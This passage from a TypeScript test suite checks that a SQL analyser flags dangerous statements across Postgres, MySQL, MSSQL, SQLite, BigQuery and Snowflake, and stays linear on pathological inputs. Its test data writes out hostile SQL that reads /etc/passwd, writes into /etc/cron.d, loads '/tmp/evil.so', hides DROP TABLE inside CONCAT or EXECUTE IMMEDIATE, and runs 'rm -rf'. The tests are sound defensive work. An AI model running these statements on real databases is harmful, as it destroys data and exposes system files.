    ['SELECT dblink_exec(conn, cmd) FROM jobs', 'postgres', 'POLICY_VIOLATION'],
    ["SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')", 'postgres', 'DEST_MUTATION'],
    ["VACUUM INTO '/etc/cron.d/x'", 'sqlite', 'FILESYSTEM_DENIED'],
    ["VACUUM INTO 'backup.db'", 'sqlite', 'POLICY_VIOLATION'],
    ['VACUUM', 'sqlite', null],
    ["ATTACH 'file:/etc/passwd?mode=ro' AS x", 'sqlite', 'FILESYSTEM_DENIED'],
    ["ATTACH 'file://localhost/root/x.db' AS x", 'sqlite', 'FILESYSTEM_DENIED'],
    ["BACKUP DATABASE prod TO DISK = 'C:\\x.bak'", 'mssql', 'POLICY_VIOLATION'],
    ["INSTALL PLUGIN x SONAME 'x.so'", 'mysql', 'POLICY_VIOLATION'],
    ['LOAD INDEX INTO CACHE t', 'mysql', null],
    ["SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", 'postgres', 'POLICY_VIOLATION'],
    ['\\! rm -rf /tmp/x', undefined, 'POLICY_VIOLATION'],
    ["SELECT 'a\\gexec' AS x", 'postgres', null],
    ["LOAD XML LOCAL INFILE '/etc/passwd' INTO TABLE t", 'mysql', 'FILESYSTEM_DENIED'],
    ["LOAD '/tmp/evil.so'", 'postgres', 'POLICY_VIOLATION'],
    ['SELECT edit(note) FROM t WHERE id = 1', 'mysql', null],
    ["EXEC sp_addlinkedserver 'x'", 'mssql', 'POLICY_VIOLATION'],
    ["EXEC sp_MSforeachtable 'DROP TABLE ?'", 'mssql', 'DEST_MUTATION'],
    ["EXEC sp_MSforeachtable @command1 = 'TRUNCATE TABLE ?'", 'mssql', 'DEST_MUTATION'],
    ["EXEC sp_MSforeachtable 'SELECT COUNT(*) FROM ?'", 'mssql', null],
    ["EXEC sp_sqlexec 'DROP TABLE t'", 'mssql', 'DEST_MUTATION'],
    ["EXEC(CONCAT('DR', 'OP TABLE t'))", 'mssql', 'DEST_MUTATION'],
    ['EXECUTE IMMEDIATE $$ BEGIN DROP TABLE t; END; $$', 'snowflake', 'DEST_MUTATION'],
    ["EXECUTE IMMEDIATE CONCAT('DROP ', 'TABLE t')", 'bigquery', 'DEST_MUTATION'],
    ["PREPARE s FROM CONCAT('DROP TABLE ', @t)", 'mysql', 'DEST_MUTATION'],
    ["PREPARE s FROM CONCAT('SELECT * FROM ', @t)", 'mysql', 'POLICY_VIOLATION'],
    ['DROP /*!32302 TEMPORARY */ TABLE t', 'mysql', null],
  ];
  it.each(doors)('%s [%s] -> %s', (sql, dialect, want) => {
    expect(code(sql, dialect)).toBe(want);
  });

  it('judges T-SQL given by a command line (sqlcmd -Q) with the mssql dialect', () => {
    expect(code("IF 1=1 EXEC('TRUNCATE TABLE audit')", 'mssql')).toBe('DEST_MUTATION');
    expect(code('SELECT name FROM sys.databases', 'mssql')).toBe(null);
  });

  it('stays linear on hostile shapes, and refuses them', () => {
    const hostile: [string, string | null][] = [
      ['load_file('.repeat(5000), 'POLICY_VIOLATION'],
      // Never closed: a comment to the end, which runs nothing.
      [`${'/*!'.repeat(100000)} DROP TABLE t`, null],
      ['EXEC('.repeat(5000), 'POLICY_VIOLATION'],
      [`EXEC(${'CONCAT('.repeat(1000)}'x'${')'.repeat(1000)})`, 'POLICY_VIOLATION'],
      [`DELETE FROM t WHERE ${'(a = 1 OR '.repeat(1000)}1 = 1${')'.repeat(1000)}`, 'DEST_MUTATION'],
    ];
    for (const [sql, want] of hostile) {
      for (const dialect of ['mssql', 'mysql', undefined] as const) expect(code(sql, dialect)).toBe(want);
    }
  }, 30_000);

  it('never throws, whatever the text', () => {
    for (const sql of [
      "EXEC('",
      'PREPARE s FROM',
      "DO $$ BEGIN EXECUTE '",
      'IF',
      "EXEC sp_executesql N'",
      '/*!',
      '$$',
      '[',
      '@',
    ]) {
      for (const dialect of [
        'postgres',
        'mysql',
        'mssql',
        'sqlite',
        'bigquery',
        'snowflake',
        undefined,
      ] as const) {
        expect(() => analyzeSql(sql, { dialect })).not.toThrow();
      }
    }
  });
});
